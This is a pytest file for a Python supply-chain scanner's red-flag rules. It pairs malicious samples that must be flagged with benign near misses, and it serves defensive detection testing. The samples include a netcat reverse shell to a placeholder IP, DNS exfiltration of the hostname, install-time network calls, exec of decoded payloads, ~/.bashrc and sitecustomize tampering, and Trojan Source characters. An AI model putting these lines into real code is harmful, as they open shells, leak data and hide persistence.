"""Each red flag: a sample that must be flagged, and a near miss that must not be."""

from __future__ import annotations

from pathlib import Path

import pytest

from pysecbook.checker.scan import open_target, scan

ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
PE = b"MZ" + bytes(0x3A) + (0x40).to_bytes(4, "little") + b"PE\x00\x00" + bytes(16)

# (rule, files that must raise it at (path, line), files that must not raise it anywhere)
CASES: list[tuple[str, dict[str, bytes], tuple[str, int | None], dict[str, bytes]]] = [
    ("PSB-RF-SETUP-PROCESS",
     {"setup.py": b"import subprocess as sp\nfrom setuptools import setup\n"
                  b"sp.check_call(['make', 'all'])\nsetup(name='x')\n"},
     ("setup.py", 3),
     {"setup.py": b"from setuptools import setup\nsetup(name='x', install_requires=['subprocess32'])\n",
      "scripts/release.py": b"import subprocess\nsubprocess.check_call(['make', 'all'])\n"}),
    ("PSB-RF-SETUP-NETWORK",
     {"setup.py": b"from urllib.request import urlopen\nfrom setuptools import setup\n\n"
                  b"class Hook:\n    def run(self):\n        urlopen('http://198.51.100.7/x')\n"},
     ("setup.py", 6),
     {"setup.py": b"from setuptools import setup\nsetup(name='x', url='https://example.org')\n"}),
    ("PSB-RF-SETUP-EXEC",
     {"setup.py": b"exec(open('demo/_version.py').read())\n"},
     ("setup.py", 1),
     {"setup.py": b"import re\nv = re.search(r'(\\d+)', open('demo/_version.py').read())\n"}),
    ("PSB-RF-SETUP-WRITE",
     {"setup.py": b"import os\nwith open(os.path.expanduser('~/.config/x.ini'), 'w') as f:\n"
                  b"    f.write('x')\n"},
     ("setup.py", 2),
     {"setup.py": b"with open('demo/_version.py', 'w') as f:\n    f.write('v = 1')\n"
                  b"print(open('/etc/os-release').read())\n"}),
    ("PSB-RF-PTH-EXEC",
     {"demo.pth": b"/opt/demo\nimport os; os.system('id')\n"},
     ("demo.pth", 2),
     {"demo.pth": b"/opt/demo\n# import os\n  import os\n"}),
    ("PSB-RF-EXEC-DECODED",
     {"demo/a.py": b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"},
     ("demo/a.py", 2),
     {"demo/a.py": b"import base64, json\ndata = json.loads(base64.b64decode('e30='))\n"
                   b"exec('x = 1')\n"}),
    ("PSB-RF-EXEC-DECODED",
     {"demo/b.py": b"import zlib, marshal\nblob = b''\ncode = zlib.decompress(blob)\n"
                   b"obj = marshal.loads(code)\n\n\nexec(obj)\n"},
     ("demo/b.py", 7),
     {"demo/b.py": b"import zlib\nblob = b''\ncode = zlib.decompress(blob)\nprint(code)\n"}),
    ("PSB-RF-EXEC-DECODED",
     {"demo/c.py": b"import codecs\neval(codecs.decode('cevag(1)', 'rot13'))\n"
                   b"eval(bytes.fromhex('31').decode())\n"},
     ("demo/c.py", 3),
     {"demo/c.py": b"import codecs\nprint(codecs.decode('cevag(1)', 'rot13'))\n"}),
    ("PSB-RF-IMPORT-NETWORK",
     {"demo/__init__.py": b"import urllib.request\n"
                          b"try:\n    urllib.request.urlopen('http://198.51.100.7/')\n"
                          b"except OSError:\n    pass\n"},
     ("demo/__init__.py", 3),
     {"demo/__init__.py": b"import urllib.request\n\n\ndef fetch(u):\n"
                          b"    return urllib.request.urlopen(u)\n",
      "other/__init__.py": b"import urllib3\nurllib3.disable_warnings()\n"}),
    ("PSB-RF-IMPORT-PROCESS",
     {"demo/__init__.py": b"import subprocess\n\nclass C:\n    out = subprocess.run(['id'])\n"},
     ("demo/__init__.py", 4),
     {"demo/__init__.py": b"import subprocess\n\n\ndef run():\n    subprocess.run(['id'])\n",
      "demo/cli.py": b"import subprocess\nsubprocess.run(['id'])\n"}),
    ("PSB-RF-STARTUP-WRITE",
     {"demo/x.py": b"import os\npath = os.path.expanduser('~/.bashrc')\n"
                   b"with open(path, 'a') as f:\n    f.write('alias ls=rm')\n"},
     ("demo/x.py", 3),
     {"demo/x.py": b"import os\nprint(open(os.path.expanduser('~/.bashrc')).read())\n",
      "demo/w.py": b"class A:\n    def save(self):\n"
                   b"        open(self.profile_dir.location, 'w').close()\n"}),
    ("PSB-RF-STARTUP-WRITE",
     {"demo/y.py": b"import site\nfrom pathlib import Path\n"
                   b"Path(site.getsitepackages()[0], 'sitecustomize.py').write_text('x')\n"},
     ("demo/y.py", 3),
     {"demo/y.py": b"from pathlib import Path\nPath('docs/customize.md').write_text('x')\n"}),
    ("PSB-RF-STARTUP-FILE",
     {"sitecustomize.py": b"x = 1\n"},
     ("sitecustomize.py", None),
     {"demo/customize.py": b"x = 1\n"}),
    ("PSB-RF-NATIVE-BINARY",
     {"demo/_speed.cpython-311-x86_64-linux-gnu.so": ELF, "tools/helper": PE},
     ("demo/_speed.cpython-311-x86_64-linux-gnu.so", None),
     {"demo/notes.txt": b"MZ is where the notes start\n" * 4,
      "demo/data.json": b'{"elf": "\\u007fELF"}\n'}),
    ("PSB-RF-TROJAN-SOURCE",
     {"demo/t.py": "x = 1\nrole = 'user\u202e \u2066# admin\u2069 \u2066'\n".encode()},
     ("demo/t.py", 2),
     {"demo/t.py": "greeting = 'caf\u00e9 \u2713 \U0001F600'\n".encode()}),
    # Inside a string, a control that could show the string closing is as bad as in code.
    ("PSB-RF-TROJAN-SOURCE",
     {"demo/u.py": 'x = """\nend \u202e """ ; run()\n"""\n'.encode()},
     ("demo/u.py", 2),
     {"demo/u.py": b"ok = 1\n"}),
    # A shell's "&" puts a process in the background; "&&" and "2>&1" do not (bandit's own
    # example runs "ls && cat /etc/passwd").
    ("PSB-RF-SILENT-PROCESS",
     {"demo/__init__.py": b"import subprocess\nsubprocess.Popen('python -m demo.agent &', shell=True)\n"},
     ("demo/__init__.py", 2),
     {"demo/__init__.py": b"import subprocess\n"
                          b"subprocess.Popen('/bin/ls && cat /etc/passwd', shell=True)\n"
                          b"subprocess.Popen('make 2>&1 | tee log', shell=True)\n"
                          b"subprocess.Popen('make &> log', shell=True)\n"}),
    # An interactive shell is a reverse shell when a network tool serves it; alone it is a
    # test kernel's child (jupyter-client runs "bash -i -c 'sleep 30'").
    ("PSB-RF-REVERSE-SHELL",
     {"demo/r.py": b"import os\n"
                   b"os.system('rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc 192.0.2.9 4444 > /tmp/p')\n"},
     ("demo/r.py", 2),
     {"demo/r.py": b"import subprocess\nsubprocess.Popen(['bash', '-i', '-c', 'sleep 30'])\n"
                   b"subprocess.run(['mkfifo', '/tmp/queue'])\n"}),
    # A host name with data in it, resolved under someone's domain, carries the data away;
    # the machine's own name, looked up to learn its addresses, does not.
    ("PSB-RF-EXFIL-DNS",
     {"demo/d.py": b"import socket\nhost = socket.gethostname()\n"
                   b"socket.gethostbyname(host + '.stats.example.net')\n"},
     ("demo/d.py", 3),
     {"demo/d.py": b"import socket\nhostname = socket.gethostname()\n"
                   b"ips = socket.gethostbyname_ex(hostname)[2]\n"
                   b"local = socket.gethostbyname_ex(socket.gethostname() + '.local')[2]\n"}),
    ("PSB-RF-INVISIBLE-CHAR",
     {"demo/z.py": "ok = 1\nis_admin\u200b = True\n".encode()},
     ("demo/z.py", 2),
     {"demo/z.py": "\ufeffok = 1\n".encode()}),
]


def red_flags(tmp_path: Path, files: dict[str, bytes]) -> list[tuple[str, str, int | None]]:
    for rel, data in files.items():
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_bytes(data)
    outcome = scan(open_target(str(tmp_path)), jobs=1)
    return [(f.rule_id, f.path, f.line) for f in outcome.findings if f.source == "redflag"]


@pytest.mark.parametrize(("rule", "bad", "where", "near"), CASES,
                         ids=[f"{c[0]}-{i}" for i, c in enumerate(CASES)])
def test_flagged(tmp_path: Path, rule: str, bad: dict[str, bytes], where, near) -> None:
    assert (rule, *where) in red_flags(tmp_path, bad)


@pytest.mark.parametrize(("rule", "bad", "where", "near"), CASES,
                         ids=[f"{c[0]}-{i}" for i, c in enumerate(CASES)])
def test_near_miss_not_flagged(tmp_path: Path, rule: str, bad, where, near) -> None:
    assert not [f for f in red_flags(tmp_path, near) if f[0] == rule]


def test_pe_without_suffix_is_found_by_its_magic(tmp_path: Path) -> None:
    assert ("PSB-RF-NATIVE-BINARY", "tools/helper", None) in red_flags(
        tmp_path, {"tools/helper": PE})


#: Rules whose must-fire and must-not-fire cases live in tests/scan/test_scan_blind_spots.py
#: (tests/scan/test_scan_rules.py checks that every rule is covered somewhere).
TESTED_THERE = {"PSB-RF-BYTECODE", "PSB-RF-BYTECODE-MISMATCH", "PSB-RF-BYTECODE-SOURCELESS",
                "PSB-TRUST-NOSEC", "PSB-TRUST-CONFIG"}


def test_red_flags_carry_severity_and_cwe(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_bytes(b"import base64\nexec(base64.b64decode('eD0x'))\n")
    found = scan(open_target(str(tmp_path)), jobs=1).findings
    flag = next(f for f in found if f.rule_id == "PSB-RF-EXEC-DECODED")
    assert (flag.source, flag.severity, flag.cwe, flag.line) == ("redflag", "high", 506, 2)


def test_a_control_inside_a_docstring_that_cannot_show_it_closing_is_not_high(tmp_path: Path) -> None:
    """bandit's own B613 plugin shows the attack in its docstring: the controls reorder the
    docstring's text on a line that holds no triple quote, and nothing else."""
    doc = ('def plugin():\n    """Finds this:\n\n'
           "        if access != 'none\u202e\u2066': # admin \u2069\u2066' and x != 'user\n"
           '    """\n    return 1\n')
    (tmp_path / "p.py").write_bytes(doc.encode())
    found = [f for f in scan(open_target(str(tmp_path)), jobs=1).findings
             if f.rule_id == "PSB-RF-TROJAN-SOURCE"]
    assert [(f.line, f.severity) for f in found] == [(4, "medium")]
    assert "only inside string literals" in found[0].message
    # The same line in code, or on the docstring's first line, is high.
    for moved in (doc.replace('"""Finds this:\n\n', '"""Finds this:'),
                  "x = 1  # " + doc.splitlines()[3].strip() + "\n"):
        (tmp_path / "p.py").write_bytes(moved.encode())
        found = [f for f in scan(open_target(str(tmp_path)), jobs=1).findings
                 if f.rule_id == "PSB-RF-TROJAN-SOURCE"]
        assert [f.severity for f in found] == ["high"], moved
